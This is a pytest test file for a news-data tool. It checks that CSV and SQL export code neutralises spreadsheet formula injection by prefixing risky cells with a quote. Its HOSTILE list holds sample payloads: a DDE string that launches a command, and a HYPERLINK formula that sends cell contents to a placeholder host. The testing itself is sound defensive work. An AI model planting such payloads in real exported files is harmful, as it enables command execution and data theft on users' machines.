"""CSV cells a spreadsheet would run as formulas get a quote in front, in Python and in SQL alike."""

from __future__ import annotations

import csv
from pathlib import Path

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from test_db import make_article

from newsgraph.records import Document, ErrorRecord
from newsgraph.store.csvsafe import safe_cell, safe_row, sql_safe
from newsgraph.store.db import Store
from newsgraph.store.export import export

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_gets_a_quote_in_front(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-3", "+1.5e3", "-0.25", ".5", "Paris", "", "a=b", "'=quoted"])
def test_numbers_and_plain_text_are_left_alone(cell: str) -> None:
    assert safe_cell(cell) == cell


def test_values_that_are_not_text_are_left_alone() -> None:
    assert safe_row([-2, None, 1.5, "=1"]) == [-2, None, 1.5, "'=1"]


_CON = duckdb.connect()
_ALPHABET = st.sampled_from(list("=+-@\t\r0123456789.eE 'ab\"|!"))


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=_ALPHABET, max_size=8))
def test_sql_and_python_agree(cell: str) -> None:
    row = _CON.execute(f"SELECT {sql_safe('$1')}", [cell]).fetchone()
    assert row is not None
    got = row[0]
    assert got == safe_cell(cell)
    assert not got[:1] or got[0] not in "=+-@\t\r" or float(got) == float(got)


def test_csv_export_neutralises_text_cells(tmp_path: Path) -> None:
    doc = Document(source="@evil.txt", text="raw", reader="text", kind="dump", encoding="utf-8", size_bytes=3)
    article = make_article(1, doc)
    article.title = HOSTILE[0]
    article.authors = ["=cmd"]
    err = ErrorRecord(source="-bad.txt", message="=1+1", kind="DecodeError", code="NG103")
    with Store(tmp_path / "s.duckdb") as store:
        run = store.start_run("t")
        store.write(documents=[(doc, 1)], articles=[article], errors=[err], run_id=run)
        export(store, "csv", tmp_path / "out")
    with (tmp_path / "out" / "articles.csv").open(newline="", encoding="utf-8") as fh:
        (row,) = csv.DictReader(fh)
    assert row["title"] == "'" + HOSTILE[0]
    assert row["source"] == "'@evil.txt#1"
    assert row["published"] == "2025-01-01" and row["n_words"] == str(len(article.text.split()))
    with (tmp_path / "out" / "errors.csv").open(newline="", encoding="utf-8") as fh:
        (erow,) = csv.DictReader(fh)
    assert (erow["source"], erow["message"], erow["code"]) == ("'-bad.txt", "'=1+1", "NG103")
    for path in (tmp_path / "out").glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as fh:
            for cells in csv.reader(fh):
                for cell in cells:
                    assert safe_cell(cell) == cell, (path.name, cell)
